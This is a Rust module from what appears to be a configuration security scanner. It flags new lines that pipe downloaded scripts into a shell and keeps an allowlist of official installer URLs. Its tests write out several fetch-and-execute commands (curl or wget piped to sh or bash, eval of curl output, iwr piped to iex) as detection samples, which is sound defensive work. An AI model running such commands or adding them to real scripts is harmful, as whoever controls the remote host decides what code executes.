//! Commands that run what they download.
//!
//! The owner of the address decides which code runs. A few installers are published in this way only.

use assize_core::finding::Certainty;
use assize_core::text::quote;

use super::ConfigurationFile;
use crate::security::FindingCollector;
use crate::security::download::is_download_and_run;

/// Installers that are published in this way by those who make the tool.
const KNOWN: [&str; 12] = [
    "https://sh.rustup.rs",
    "https://get.docker.com",
    "https://install.python-poetry.org",
    "https://astral.sh/",
    "https://deb.nodesource.com/",
    "https://get.sdkman.io",
    "https://bun.sh/install",
    "https://deno.land/install.sh",
    "https://get.pnpm.io/",
    "https://raw.githubusercontent.com/nvm-sh/nvm/v",
    "https://raw.githubusercontent.com/Homebrew/install/",
    "https://bootstrap.pypa.io/",
];

/// Finds new lines that run what they download.
pub(super) fn look(about: &ConfigurationFile<'_>, report: &mut FindingCollector) {
    for (number, line) in about.new_lines() {
        let shown = line.trim_start();
        if shown.starts_with('#')
            || shown.starts_with("//")
            || assize_core::path::is_prose(&about.file.path)
            || !is_download_and_run(line)
        {
            continue;
        }
        let known = KNOWN.iter().any(|address| line.contains(address));
        let message = format!(
            "{} runs what it downloads: the owner of the address decides what that is. Use a fixed version and compare its checksum.",
            quote(line)
        );
        if known {
            report.warn("download-and-run", &about.file.path, Some(number), message);
        } else {
            let certainty =
                if line.contains("http://") { Certainty::Certain.min(about.certainty()) } else { about.certainty() };
            report.fault("download-and-run", certainty, &about.file.path, Some(number), message);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_downloaded_and_run_at_once_is_seen() {
        for command in [
            "curl -fsSL https://a.example/x | sh",
            "wget -qO- https://a.example/x | sudo bash -s -- --yes",
            "bash <(curl -s https://a.example/x)",
            "sh -c \"$(curl -fsSL https://a.example/x)\"",
            "eval \"$(curl -s https://a.example/x)\"",
            "curl https://a.example/x.py | python3 -",
            "iwr https://a.example/x.ps1 | iex",
        ] {
            assert!(is_download_and_run(command), "{command}");
        }
        for command in [
            "curl -fsSL https://a.example/x -o x && sha256sum -c x.sum",
            "curl https://a.example/x | jq .version",
            "curl https://a.example/x | tar xz",
            "cat script.sh | sh",
            "echo hash | sha256sum",
            "npm run fetch || sh x",
        ] {
            assert!(!is_download_and_run(command), "{command}");
        }
    }
}
